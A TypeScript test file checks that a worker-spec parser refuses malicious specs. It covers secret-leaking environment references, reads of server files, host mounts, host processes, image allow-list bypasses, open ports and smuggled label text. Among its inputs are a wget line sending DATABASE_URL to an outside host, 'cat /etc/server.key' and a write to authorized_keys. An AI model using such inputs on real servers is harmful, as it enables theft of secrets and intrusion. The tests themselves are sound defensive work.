import { describe, expect, test } from 'vitest';
import type { ParseOptions } from '../../../src/spec/loaded-spec.js';
import type { WorkerSpec } from '../../../src/spec/worker-spec.js';
import type { OutsideRules } from '../../../src/dispatch/outside/rules.js';
import type { SectionName } from '../../../src/dispatch/outside/row.js';
import { base, box, faultsOf, load, without } from './support.js';

/** An attack by a spec. It first succeeds without its guards, which shows that they are what stops it. */
interface Attack {
  spec: object;
  /** Rows of the table. */
  guards: [section: SectionName, field: string][];
  /** A part of the worker that the attacker would get. */
  gains: (spec: WorkerSpec) => unknown;
  gained: unknown;
  allow?: Partial<OutsideRules>;
  /** All faults of the spec, as `place: cause; remedy`. */
  refused: string[];
}

/** The server of these attacks: a secret in its environment, and a file. */
const server: Pick<ParseOptions, 'env' | 'readFile'> = {
  env: { DATABASE_URL: 'postgres://server-secret' },
  readFile: (path) => (path === '/etc/server.key' ? Buffer.from('KEY=server-key') : { cause: 'does not exist', remedy: 'check the path' }),
};

const inline = 'write the credentials themselves: {"username": …, "password": …}, as a JSON object in a string';
const asked = (permission: string) => `or ask an administrator of the server to allow \`${permission}\``;
const reference = 'has a reference ${env:…} to a variable of the server; write the value itself, or $${env: for the literal characters';
const ci = { images: [['registry.example.com/ci/*', 'alpine:*', 'busybox']] };
const notListed = (image: string) =>
  `the image ${image} is not allowed; use an image of the server's list: registry.example.com/ci/*, alpine:*, busybox`;
const imageAttack = (image: string): Attack => ({
  spec: { ...box({}), engine: { image } },
  guards: [['engine', 'image']],
  allow: ci,
  gains: ({ engine }) => engine?.image,
  gained: image,
  refused: [`engine.image: ${notListed(image)}`],
});
const label = (tag: string): Attack => ({
  spec: { ...base, tags: ['good', tag] },
  guards: [['top', 'tags']],
  gains: ({ tags }) => tags,
  gained: ['good', tag],
  refused: [
    'tags[1]: must be one line of at most 256 characters, without control characters; shorten it, and remove line ends and characters that are not shown',
  ],
});
const bind = (address: string): Attack => ({
  spec: { ...base, access: { bind: address } },
  guards: [['access', 'bind']],
  gains: ({ access }) => access.bind,
  gained: address,
  refused: [`access.bind: opens the port to other machines; write 127.0.0.1, ${asked('exposed')}`],
});
const helper = (secret: object): Attack => ({
  spec: box({ pull_secret: JSON.stringify(secret) }),
  guards: [['containers[]', 'pull_secret']],
  gains: ({ containers }) => containers[0]?.pull_secret,
  gained: { from: 'inline', json: JSON.stringify(secret) },
  refused: [`containers[0].pull_secret: names a credential helper, which is a program of the server; ${inline}`],
});

const table: Record<string, Record<string, Attack>> = {
  environment: {
    'a reference in a command': {
      spec: { ...base, engine: { image: 'alpine', command: 'wget http://example.com/${env:DATABASE_URL}' } },
      guards: [['texts', '${env:…}']],
      gains: ({ engine }) => engine?.command?.[2],
      gained: 'wget http://example.com/postgres://server-secret',
      refused: [`engine.command: ${reference}`],
    },
    'a reference with a default, which hides that it was read': {
      spec: box({ env: { URL: '${env:MISSING:-${env:DATABASE_URL}}' } }),
      guards: [['texts', '${env:…}']],
      gains: ({ containers }) => containers[0]?.env['URL'],
      gained: 'postgres://server-secret',
      refused: [`containers[0].env.URL: ${reference}`],
    },
    'a reference behind an escaped one': {
      spec: box({ env: { URL: '$${env:A} ${env:DATABASE_URL}' } }),
      guards: [['texts', '${env:…}']],
      gains: ({ containers }) => containers[0]?.env['URL'],
      gained: '${env:A} postgres://server-secret',
      refused: [`containers[0].env.URL: ${reference}`],
    },
    'a reference in a label, which answers show': {
      spec: { ...base, tags: ['${env:DATABASE_URL}'] },
      guards: [['texts', '${env:…}']],
      gains: ({ tags }) => tags,
      gained: ['postgres://server-secret'],
      refused: [`tags[0]: ${reference}`],
    },
    'a pull secret from a variable': {
      spec: box({ pull_secret: 'env:DATABASE_URL' }),
      guards: [['containers[]', 'pull_secret']],
      gains: ({ containers }) => containers[0]?.pull_secret,
      gained: { from: 'env', name: 'DATABASE_URL' },
      refused: [`containers[0].pull_secret: names a variable of the server; ${inline}`],
    },
    'an env file that passes on a variable': {
      spec: box({ env_file: '/etc/server.key' }),
      guards: [['containers[]', 'env_file']],
      gains: ({ containers }) => containers[0]?.env,
      gained: { KEY: 'server-key' },
      refused: ['containers[0].env_file: names files of the server; write the variables under `env`'],
    },
  },
  files: {
    'the content of a file': {
      spec: { ...base, engine: { image: 'alpine', files: [{ to: '/key', from: '/etc/server.key' }] } },
      guards: [['files[]', 'from']],
      gains: ({ engine }) => Buffer.from(engine?.files[0]?.content ?? '', 'base64').toString(),
      gained: 'KEY=server-key',
      refused: ['engine.files[0].from: names a file of the server; write the text under `content`'],
    },
    'a pull secret from a file': {
      spec: { ...base, engine: { image: 'alpine', pull_secret: 'file:../root/.docker/config.json' } },
      guards: [['engine', 'pull_secret']],
      gains: ({ engine }) => engine?.pull_secret,
      gained: { from: 'file', path: '/root/.docker/config.json' },
      refused: [`engine.pull_secret: names a file of the server; ${inline}`],
    },
    'a mounted directory': {
      spec: { ...base, service_containers: [{ name: 'db', image: 'busybox', mounts: [{ source: '/var/lib', mount_point: '/host' }] }] },
      guards: [['mounts[]', 'source']],
      gains: ({ service_containers }) => service_containers[0]?.sources,
      gained: [{ source: '/var/lib', mount_point: '/host', read_only: false, copy_on_write: false }],
      refused: ['service_containers[0].mounts[0].source: names a directory of the server; mount a volume of the spec'],
    },
    'copied files': {
      spec: { ...base, copy: [{ from: '/etc', to: '/stolen' }] },
      guards: [
        ['top', 'copy'],
        ['copy[]', 'from'],
      ],
      gains: ({ copy }) => copy[0]?.from,
      gained: '/etc',
      refused: ['copy: copies files of the server; put small files under `files`, or build the image with them'],
    },
    'a repository of the server, and a file of patterns': {
      spec: { ...base, copy: [{ from: 'git:srv/app', to: '/src', ignore_file: 'etc/server.key' }] },
      guards: [
        ['top', 'copy'],
        ['copy[]', 'from'],
        ['copy[]', 'ignore_file'],
      ],
      gains: ({ copy }) => [copy[0]?.from, copy[0]?.tracked, copy[0]?.ignore_file],
      gained: ['/srv/app', 'directory', '/etc/server.key'],
      refused: ['copy: copies files of the server; put small files under `files`, or build the image with them'],
    },
    'an artifact that is written on the server': {
      spec: box({ artifacts: [{ from: '/key', to: '.ssh/authorized_keys' }] }),
      guards: [
        ['containers[]', 'artifacts'],
        ['artifacts[]', 'to'],
      ],
      gains: ({ artifacts }) => artifacts[0]?.to,
      gained: '.ssh/authorized_keys',
      refused: [
        'containers[0].artifacts: copies files to the server, which it does after a command; add a `command` to the request, or remove it',
      ],
    },
    'the hash of a file': {
      spec: { ...base, caches: [{ name: 'h${hash:/etc/server.key}', to: '/cache' }] },
      guards: [['caches[]', 'name']],
      allow: { caches: true },
      gains: ({ caches }) => caches[0]?.name,
      gained: 'hbaafb9775d3a',
      refused: ['caches[0].name: names a file of the server in ${hash:…}; write the name without a hash, or the hash itself'],
    },
    'the cache of another organisation': {
      spec: { ...base, caches: [{ name: 'pip', to: '/cache' }] },
      guards: [['top', 'caches']],
      gains: ({ caches }) => caches[0]?.name,
      gained: 'pip',
      refused: [`caches: is shared with other organisations on its node; remove it, ${asked('caches')}`],
    },
  },
  'host processes': {
    'programs of the server as the engine': {
      spec: { max_duration: 60, engine: { command: 'cat /etc/server.key' }, backend: 'process' },
      guards: [['top', 'backend']],
      gains: ({ backend }) => backend,
      gained: 'process',
      refused: [`backend: runs programs on the server itself; remove it, ${asked('processes')}`],
    },
    'a second node of processes': {
      spec: { max_duration: 60, engine: { command: 'true' }, backend: 'process@2' },
      guards: [['top', 'backend']],
      allow: { backends: ['docker', 'process@2'], as_user: ['process@2'] },
      gains: ({ backend }) => backend,
      gained: 'process@2',
      refused: [`backend: runs programs on the server itself; remove it, ${asked('processes')}`],
    },
    'a credential helper': helper({ credHelpers: { 'registry.example.com': 'pass' } }),
    'a credential store': helper({ credsStore: 'desktop', auths: {} }),
  },
  images: {
    'an image of no list': imageAttack('debian:12'),
    'an allowed name without its tag': imageAttack('alpine'),
    'a registry that begins like an allowed one': imageAttack('registry.example.com/ci-evil/tool'),
    'a way out of an allowed prefix': imageAttack('registry.example.com/ci/../evil'),
    'an empty part below an allowed prefix': imageAttack('registry.example.com/ci//evil'),
    'a host that looks like an allowed tag': imageAttack('alpine:5000/evil'),
    'a digest of another form': imageAttack('alpine:3.20@sha256:evil'),
    'an allowed name on another registry': imageAttack('evil.example.com/busybox'),
    'upper case': imageAttack('Busybox'),
    'a letter that looks like another': {
      ...imageAttack('\u0430lpine:3.20'),
      allow: {},
      refused: ['engine.image: must be at most 512 characters of ASCII; write the image as `docker pull` takes it'],
    },
    'the image of a service': {
      spec: { ...base, engine: { image: 'busybox' }, service_containers: [{ name: 'db', image: 'evil' }] },
      guards: [['service_containers[]', 'image']],
      allow: ci,
      gains: ({ service_containers }) => service_containers[0]?.image,
      gained: 'evil',
      refused: [`service_containers[0].image: ${notListed('evil')}`],
    },
    "the image of Mélodium's engine": {
      spec: { max_duration: 60, image: 'evil' },
      guards: [['top', 'image']],
      allow: ci,
      gains: ({ melodium }) => melodium?.image,
      gained: 'evil',
      refused: [`image: ${notListed('evil')}`],
    },
    "a version of Mélodium's engine": {
      spec: { max_duration: 60, version: '0.10.1', edition: 'debian' },
      guards: [['top', 'version']],
      allow: ci,
      gains: ({ melodium }) => melodium?.image,
      gained: 'registry.example.com/melodium/melodium:0.10.1-debian-docker',
      refused: [`version: ${notListed('registry.example.com/melodium/melodium:0.10.1-debian-docker')}`],
    },
  },
  ports: {
    'all addresses': bind('0.0.0.0'),
    'all addresses of IPv6': bind('::'),
    'an address of the network': bind('10.0.0.5'),
    'networks of a cloud': {
      spec: { ...base, access: { cidrs: ['0.0.0.0/0'] } },
      guards: [['access', 'cidrs']],
      gains: ({ access }) => access.cidrs,
      gained: ['0.0.0.0/0'],
      refused: [`access.cidrs: opens the port to other machines; remove it, ${asked('exposed')}`],
    },
    'a public address': {
      spec: { ...base, access: { public: true } },
      guards: [['access', 'public']],
      gains: ({ access }) => access.public,
      gained: true,
      refused: [`access.public: gives the engine a public address; write false, ${asked('exposed')}`],
    },
    'the port of a service of the host': {
      spec: { ...base, ports: [{ name: 'db', port: 1, host: 5432 }] },
      guards: [['ports[]', 'host']],
      gains: ({ ports }) => ports[0]?.host,
      gained: 5432,
      refused: [`ports[0].host: takes a fixed port of the host; remove it: a free port is then used, ${asked('host_ports')}`],
    },
  },
  'smuggled texts': {
    'a line end in a label': label('good\ndev.mayfly.organization=victim'),
    'an escape sequence in a label': label('\u001b[2J'),
    'a text from right to left': label('\u202egnp.exe'),
    'a line separator of Unicode': label('a\u2028b'),
    'a very long label': label('x'.repeat(257)),
    'a check of health a thousand times a second': {
      spec: box({ healthcheck: { command: 'true', interval: '1ms' } }),
      guards: [['healthcheck', 'interval']],
      gains: ({ containers }) => containers[0]?.healthcheck,
      gained: { command: ['CMD-SHELL', 'true'], interval: 0.001, timeout: 5, retries: 12, start_period: 0 },
      refused: ['containers[0].healthcheck.interval: must be at least 0.5 seconds; write for example `interval: 1s`'],
    },
  },
};

for (const [section, some] of Object.entries(table)) {
  describe(`attacks on specs over HTTP, ${section}`, () => {
    test.each(Object.entries(some))('%s', (_, { spec, guards, gains, gained, allow, refused }) => {
      const open = load(spec, allow, { table: without(...guards), parsing: server });
      expect(gains(open.spec), 'without the guard').toEqual(gained);
      expect(faultsOf(spec, allow, { parsing: server })).toEqual(refused);
    });
  });
}
